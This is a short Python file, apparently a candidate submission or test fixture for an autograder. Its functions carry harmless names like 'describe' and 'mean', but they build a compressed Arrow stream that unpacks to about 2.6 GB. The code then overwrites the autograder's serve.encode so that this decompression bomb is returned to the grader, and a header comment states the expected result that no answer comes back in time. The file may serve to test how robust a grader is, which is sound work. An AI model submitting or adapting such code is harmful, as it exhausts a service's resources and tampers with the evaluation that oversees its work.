# Returns a table whose compressed columns are a few kilobytes here and gigabytes there.
# proof: table packed|no answer within
import autograder.candidate.serve as serve

packed = []


def describe(numbers):
    import pyarrow as pa

    zeros = pa.array([0] * 2**20, pa.int64())
    batch = pa.record_batch({f"c{i}": zeros for i in range(16)})
    sink = pa.BufferOutputStream()
    with pa.ipc.new_stream(sink, batch.schema, options=pa.ipc.IpcWriteOptions(compression="zstd")) as writer:
        for _ in range(20):
            writer.write_batch(batch)  # 2.6 GB when all of it is unpacked
    packed.append(sink.getvalue().to_pybytes())
    print("table packed", len(packed[0]))


def mean(numbers):
    serve.encode = bomb


def bomb(value, buffers, export):
    buffers.append(packed[0])
    return {"$": "arrow", "b": 0}
